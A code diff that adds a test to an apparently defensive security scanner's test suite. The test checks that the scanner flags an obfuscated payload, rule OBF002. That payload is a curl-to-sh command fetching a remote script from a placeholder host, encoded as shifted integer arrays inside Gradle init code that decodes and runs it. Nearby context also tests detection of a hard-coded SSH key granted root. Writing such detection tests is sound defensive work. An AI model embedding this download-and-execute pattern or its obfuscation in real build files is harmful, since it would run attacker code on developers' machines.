@@ -622,3 +622,20 @@ def test_a_public_key_fixed_in_a_script_and_given_root_is_a_grant():
     assert "BEH043" in {f.rule for f in SCANNER.scan_text(script, "scripts/p.sh").findings}
     own = script.replace(f"KEY='{key}'", 'KEY="$(cat ~/.ssh/id_ed25519.pub)"')
     assert "BEH043" not in {f.rule for f in SCANNER.scan_text(own, "scripts/p.sh").findings}
+
+
+def _codes(text: str, shift: int) -> str:
+    return ",".join(str(ord(c) + shift) for c in text)
+
+
+def test_number_lists_declared_one_after_another_are_decoded_joined():
+    command = "curl -fsSL https://cache.example.invalid/n.sh | sh -s -- --quiet"
+    half = len(command) // 2
+    code = (
+        f"val a = intArrayOf({_codes(command[:half], 7)})\n"
+        f"val b = intArrayOf({_codes(command[half:], 7)})\n"
+        'ProcessBuilder("sh", "-c", (a + b).joinToString("") { (it - 7).toChar().toString() })\n'
+    )
+    assert "OBF002" in {f.rule for f in SCANNER.scan_text(code, "init.gradle.kts").findings}
+    far = code.replace("\nval b", "\n" + "// " + "x" * 120 + "\nval b")
+    assert "OBF002" not in {f.rule for f in SCANNER.scan_text(far, "init.gradle.kts").findings}
